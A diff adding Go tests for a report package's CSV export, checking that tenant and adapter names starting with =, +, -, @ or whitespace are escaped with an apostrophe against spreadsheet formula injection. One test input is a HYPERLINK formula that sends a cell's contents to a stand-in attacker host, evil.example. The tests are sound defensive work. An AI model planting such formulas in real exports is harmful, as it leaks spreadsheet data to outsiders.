@@ -3,6 +3,7 @@ package nozzle_test
 import (
 	"bytes"
 	"encoding/csv"
+	"io"
 	"slices"
 	"strings"
 	"testing"
@@ -93,5 +94,82 @@ func TestWriteCSV_NoFloatNoise(t *testing.T) {
 	}
 	if !strings.Contains(b.String(), ",0.0003,") || !strings.Contains(b.String(), "123456789.123") {
 		t.Errorf("CSV %q", b.String())
+	}
+}
+
+func TestCSVText(t *testing.T) {
+	for in, want := range map[string]string{
+		"":                    "",
+		"acme":                "acme",
+		"sql-v2":              "sql-v2",
+		"2+3":                 "2+3",
+		"'quoted":             "'quoted",
+		"=1+1":                "'=1+1",
+		"+1":                  "'+1",
+		"-2+3":                "'-2+3",
+		"@SUM(A1:A9)":         "'@SUM(A1:A9)",
+		"\t=1":                "'\t=1",
+		"\r=1":                "'\r=1",
+		`=HYPERLINK("x","y")`: `'=HYPERLINK("x","y")`,
+	} {
+		if got := nozzle.CSVText(in); got != want {
+			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// A tenant's or adapter's name that a spreadsheet would run as a formula
+// comes out as text; numbers, negative ones included, stay numbers.
+func TestWriteCSV_FormulaInjection(t *testing.T) {
+	hyperlink := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
+	rep := &nozzle.Report{
+		GroupBy: []string{nozzle.GroupTenant, nozzle.GroupAdapter},
+		Rows: []nozzle.ReportRow{
+			{TenantID: "tn_1", TenantName: hyperlink, AdapterID: "ad_1", AdapterName: "-2+3", Requests: 1, MarginUSD: -1.25, SavingPercent: -40},
+			{TenantID: "tn_2", TenantName: "@cmd", AdapterID: "+ad", AdapterName: "\tx", Requests: 1, MarginUSD: -0.5},
+		},
+		Total: nozzle.ReportRow{Requests: 2, MarginUSD: -1.75},
+	}
+	for _, tc := range []struct {
+		name  string
+		write func(io.Writer) error
+	}{{"Operator", rep.WriteCSV}, {"Tenant", rep.WriteTenantCSV}} {
+		t.Run(tc.name, func(t *testing.T) {
+			var buf bytes.Buffer
+			if err := tc.write(&buf); err != nil {
+				t.Fatal(err)
+			}
+			recs, err := csv.NewReader(&buf).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if want := []string{"tenant_id", "tenant", "adapter_id", "adapter"}; !slices.Equal(recs[0][:4], want) {
+				t.Fatalf("header %v", recs[0])
+			}
+			if want := []string{"tn_1", "'" + hyperlink, "ad_1", "'-2+3"}; !slices.Equal(recs[1][:4], want) {
+				t.Errorf("row 1 groups %q, want %q", recs[1][:4], want)
+			}
+			if want := []string{"tn_2", "'@cmd", "'+ad", "'\tx"}; !slices.Equal(recs[2][:4], want) {
+				t.Errorf("row 2 groups %q, want %q", recs[2][:4], want)
+			}
+			col := func(name string) int { return slices.Index(recs[0], name) }
+			if got := recs[1][col("saving_percent")]; got != "-40" {
+				t.Errorf("saving_percent %q, want -40", got)
+			}
+			if tc.name == "Operator" {
+				for i, want := range []string{"-1.25", "-0.5", "-1.75"} {
+					if got := recs[i+1][col("margin_usd")]; got != want {
+						t.Errorf("record %d margin_usd %q, want %q", i+1, got, want)
+					}
+				}
+			}
+			for _, r := range recs {
+				for _, cell := range r[4:] {
+					if strings.HasPrefix(cell, "'") {
+						t.Errorf("number cell %q quoted in %q", cell, r)
+					}
+				}
+			}
+		})
 	}
 }
